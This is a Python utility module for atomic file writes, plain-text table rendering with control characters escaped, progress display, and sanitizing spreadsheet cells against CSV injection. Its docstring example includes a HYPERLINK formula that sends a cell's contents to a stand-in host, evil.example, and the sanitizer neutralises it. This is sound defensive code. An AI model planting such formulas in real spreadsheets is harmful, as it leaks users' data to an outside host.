"""Files written whole or not at all, the one text-table renderer, and cells safe for spreadsheets.

Examples
--------
>>> print(format_table(["label", "degree"], [["Tokayev", "0.5000"], ["Rahmon", None]]), end="")
label    degree
-------  ------
Tokayev  0.5000
Rahmon
(2 rows)
>>> print(format_table(["quote"], [["Kazakhstan said on Friday it had evacuated 231 citizens"]], width=30), end="")
quote
------------------------------
Kazakhstan said on Friday it …
(1 row)
>>> print(spreadsheet_cell('=HYPERLINK("http://evil.example/?leak="&A1,"click")'))
'=HYPERLINK("http://evil.example/?leak="&A1,"click")
>>> spreadsheet_cell("-3"), spreadsheet_cell(-0.5)
('-3', -0.5)
"""

from __future__ import annotations

import contextlib
import io
import os
import re
import sys
import tempfile
from collections.abc import Callable, Iterable, Iterator, Sequence
from pathlib import Path
from typing import IO, Any

from rich import box
from rich.console import Console
from rich.table import Table
from rich.text import Text

__all__ = [
    "atomic_open",
    "atomic_write",
    "format_table",
    "progress",
    "progress_phases",
    "spreadsheet_cell",
    "terminal_width",
]

_MODES = ("w", "wt", "wb")
_UNLIMITED = 1 << 20  # columns: a wide table is as wide as its cells


@contextlib.contextmanager
def atomic_open(
    path: str | os.PathLike, mode: str = "w", *, encoding: str = "utf-8", newline: str | None = None
) -> Iterator[IO[Any]]:
    """Open a temporary file next to ``path`` for writing; on success it replaces ``path``.

    A process killed or an exception raised at any point leaves the old file (or none) or the new
    one, never a part of it, and no temporary file behind. No fsync: it would cost milliseconds per
    file and only matters when the machine itself fails.

    Parameters
    ----------
    path : str or PathLike
        The file to (re)write; its folder must exist.
    mode : {"w", "wt", "wb"}
        Text or binary.
    encoding, newline
        As for :func:`open`, in text mode.

    Yields
    ------
    file object
        The temporary file, open for writing; its ``name`` is its path.

    Examples
    --------
    >>> import tempfile
    >>> folder = Path(tempfile.mkdtemp())
    >>> with atomic_open(folder / "a.txt") as f:
    ...     _ = f.write("whole")
    >>> (folder / "a.txt").read_text(), sorted(p.name for p in folder.iterdir())
    ('whole', ['a.txt'])
    """
    if mode not in _MODES:
        raise ValueError(f"atomic_open writes files: mode must be one of {', '.join(_MODES)}, not {mode!r}")
    path = Path(path)
    fd, partial = tempfile.mkstemp(dir=path.parent, prefix=f".{path.name}.", suffix=".tmp")
    os.close(fd)
    try:
        # opened by name, so that ``handle.name`` is the temporary file (to read it back before the replace)
        if "b" in mode:
            handle = open(partial, "wb")  # closed by the with below, before the replace
        else:
            handle = open(partial, "w", encoding=encoding, newline=newline)
        with handle:
            yield handle
        os.chmod(partial, 0o644)  # mkstemp makes it private; the file is an ordinary output
        os.replace(partial, path)
    except BaseException:
        with contextlib.suppress(OSError):
            os.unlink(partial)
        raise


def atomic_write(path: str | os.PathLike, data: str | bytes, *, encoding: str = "utf-8") -> None:
    """Write ``data`` to ``path`` whole or not at all (see :func:`atomic_open`).

    Text is written as it is (no newline translation).

    Examples
    --------
    >>> import tempfile
    >>> target = Path(tempfile.mkdtemp()) / "a.txt"
    >>> atomic_write(target, "one\\r\\ntwo\\n")
    >>> target.read_bytes()
    b'one\\r\\ntwo\\n'
    """
    if isinstance(data, bytes):
        with atomic_open(path, "wb") as handle:
            handle.write(data)
    else:
        with atomic_open(path, "w", encoding=encoding, newline="") as handle:
            handle.write(data)


# What makes a spreadsheet read a cell as a formula (OWASP, CSV injection; ASVS 1.2.10 adds NUL), and
# the full-width forms, which some spreadsheets fold to them.
_FORMULA_START = frozenset("=+-@\t\r\n\0＝＋－＠")
_PLAIN_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")


def spreadsheet_cell(value: object) -> object:
    """A CSV or TSV cell that a spreadsheet shows as text instead of running it as a formula.

    Text that starts with ``=``, ``+``, ``-``, ``@``, a tab, a carriage return, a line feed or NUL
    (or with one of the first four after blanks) gets a single quote in front, as OWASP recommends
    against CSV injection: a spreadsheet shows the rest as it is. Numbers, and text that reads as a
    plain number (``-3``, ``+0.5``, ``-1e3``), are data and stay as they are; so does anything else.

    Parameters
    ----------
    value : object
        A cell, before the CSV writer quotes it.

    Returns
    -------
    object
        ``value``, or ``"'" + value`` for text a spreadsheet would run.

    Examples
    --------
    >>> spreadsheet_cell("@SUM(A1:A9)"), spreadsheet_cell("-0.5"), spreadsheet_cell("Tokayev"), spreadsheet_cell(None)
    ("'@SUM(A1:A9)", '-0.5', 'Tokayev', None)
    """
    if not isinstance(value, str) or not value:
        return value
    if value[0] in _FORMULA_START or value.lstrip()[:1] in _FORMULA_START:
        if not _PLAIN_NUMBER.fullmatch(value.strip()):
            return "'" + value
    return value


def terminal_width() -> int | None:
    """The width to fit tables to when standard output is a terminal: ``$COLUMNS``, else the terminal's.

    None when it is not (a pipe, a file, a notebook): text read by a program or saved is not cut, even
    where a parent process exported ``COLUMNS`` (test runners and some shells do).
    """
    try:
        if not sys.stdout.isatty():
            return None
        columns = os.environ.get("COLUMNS", "")
        if columns.isdigit() and int(columns) > 0:
            return int(columns)
        return os.get_terminal_size(sys.stdout.fileno()).columns
    except (AttributeError, ValueError, OSError):  # no stdout, a closed one, or one without a file descriptor
        return None


# An aligned plain-text table: two spaces between columns and a rule of dashes under the header.
# Box lines (4 characters each: left, horizontal, divider, right): top, head, head rule, section
# rule, row, foot rule, foot, bottom. Cells are padded on their right by one space, so the divider
# and the padding give the two spaces; the header rule is fixed up in ``format_table``.
_PLAIN = box.Box("    \n    \n -  \n    \n    \n    \n    \n    \n", ascii=True)

# C0 and C1 controls and DEL: an ESC from article metadata would drive the terminal (set its title,
# move the cursor, hide text); tables show them as \x1b instead. White space is folded before this.
_CONTROL = re.compile(r"[\x00-\x1f\x7f-\x9f]")


def _one_line(value: object) -> str:
    """A cell as one line of visible characters: runs of white space folded, controls escaped."""
    text = " ".join(str(value).split())
    return _CONTROL.sub(lambda m: f"\\x{ord(m.group()):02x}", text)


def format_table(
    columns: Sequence[str],
    rows: Iterable[Sequence[object] | None],
    *,
    wide: bool = False,
    width: int | None = None,
    count: bool = True,
) -> str:
    """Rows as an aligned text table fitted to ``width``, long cells cut with an ellipsis.

    Parameters
    ----------
    columns : sequence of str
        The header.
    rows : iterable of sequences, or None
        One cell per column: ``None`` shows as empty, anything else as ``str()`` with its runs of
        white space (newlines too) folded to one space and its control characters (C0, C1, DEL)
        shown as escapes such as ``\\x1b``, so that no cell can drive the terminal. A row that is
        ``None`` ends a section: a blank line follows the row before it.
    wide : bool
        Show every cell whole, however wide the table gets.
    width : int, optional
        The widest a line gets (default: :func:`terminal_width`; no limit when that is None); ignored
        when ``wide``.
    count : bool
        End with a line counting the rows: ``(3 rows)``.

    Returns
    -------
    str
        The lines, without trailing spaces, each ending in a newline.
    """
    table = Table(box=_PLAIN, show_edge=False, pad_edge=False, padding=(0, 1, 0, 0), header_style=None)
    for name in columns:
        table.add_column(Text(_one_line(name), no_wrap=True, overflow="ellipsis"))
    shown: list[list[str]] = []
    ended = False  # the last row ends a section
    for row in rows:
        ended = row is None
        if row is None:
            if table.rows:
                table.rows[-1].end_section = True
            continue
        cells = ["" if value is None else _one_line(value) for value in row]
        shown.append(cells)
        table.add_row(*(Text(cell, no_wrap=True, overflow="ellipsis") for cell in cells))
    buffer = io.StringIO()
    console = Console(
        file=buffer,
        width=(None if wide else width or terminal_width()) or _UNLIMITED,
        color_system=None,
        force_terminal=False,
        no_color=True,
        highlight=False,
        emoji=False,
        markup=False,
        soft_wrap=False,
    )
    console.print(table)
    lines = [line.rstrip() for line in buffer.getvalue().splitlines()]
    if len(lines) > 1:  # the rule under the header runs over each cell's padding too: give that back to the gap
        lines[1] = lines[1].replace("- ", "  ")
    if ended and shown:
        lines.append("")
    if count:
        lines.append(f"({len(shown)} row{'' if len(shown) == 1 else 's'})")
    return "\n".join(lines) + "\n"


def progress(enabled: bool, *, bar: bool = True) -> Any:
    """The one progress display: a transient rich ``Progress`` on standard error, or ``nullcontext(None)``.

    Standard output stays for data. Callers add tasks to what the context manager yields, and check it for
    ``None`` when progress is off.

    Parameters
    ----------
    enabled : bool
        Show progress at all.
    bar : bool
        A bar with counts (work of known size); ``False``: a spinner with the phase's name.

    Returns
    -------
    contextlib.AbstractContextManager
        Yields the ``rich.progress.Progress``, or ``None`` when not enabled.
    """
    if not enabled:
        return contextlib.nullcontext(None)
    from rich.progress import BarColumn, MofNCompleteColumn, Progress, SpinnerColumn, TextColumn, TimeElapsedColumn

    columns = (
        (TextColumn("{task.description}"), BarColumn(), MofNCompleteColumn(), TimeElapsedColumn())
        if bar
        else (SpinnerColumn(), TextColumn("{task.description}"), TimeElapsedColumn())
    )
    return Progress(*columns, console=Console(stderr=True), transient=True)


def progress_phases(progress: Any) -> Callable[[str], None] | None:
    """An ``on_phase`` callback that shows each phase by name on a progress display, or ``None``.

    Library functions that take ``on_phase`` call it with the name of each step as it starts
    (``"read the claims from the store"``); this shows it on what :func:`progress` yields.

    Parameters
    ----------
    progress : rich.progress.Progress or None
        What :func:`progress` yields (``None`` when progress is off).

    Returns
    -------
    callable or None
        Called with a phase's name, it hides the phases before and shows this one (a spinner and
        the time it has taken).

    Examples
    --------
    >>> with progress(False, bar=False) as shown:
    ...     progress_phases(shown) is None
    True
    """
    if progress is None:
        return None

    def on_phase(name: str) -> None:
        for task in progress.tasks:
            progress.update(task.id, visible=False)
        progress.add_task(name, total=None)
        progress.refresh()  # drawn at once: a phase shorter than the refresh interval is still shown

    return on_phase
